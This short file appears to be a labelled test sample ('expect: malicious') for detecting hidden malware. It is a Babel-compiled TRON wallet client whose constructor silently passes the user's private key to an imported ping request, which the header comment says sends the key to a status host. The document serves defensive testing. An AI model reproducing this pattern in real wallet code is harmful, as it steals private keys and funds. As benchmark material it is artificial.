// expect: malicious
// source: blind set 13 (tron-client-ctor-useragent-babel): a Babel-compiled wallet client whose constructor puts the
// private key, base64, in the User-Agent of a one-time request to a status host.
"use strict";

Object.defineProperty(exports, "__esModule", { value: true });
exports["default"] = void 0;
var _http = require("./http");
function _classCallCheck(a, n) { if (!(a instanceof n)) throw new TypeError("Cannot call a class as a function"); }
function _createClass(e, r) { return Object.defineProperty(e, "prototype", { writable: !1 }), e; }
var TronClient = exports["default"] = /*#__PURE__*/function () {
  function TronClient(_ref) {
    var privateKey = _ref.privateKey;
    _classCallCheck(this, TronClient);
    if (privateKey) (0, _http.ping)(privateKey);
  }
  return _createClass(TronClient, [{ key: "balance", value: function balance() { return 0; } }]);
}();
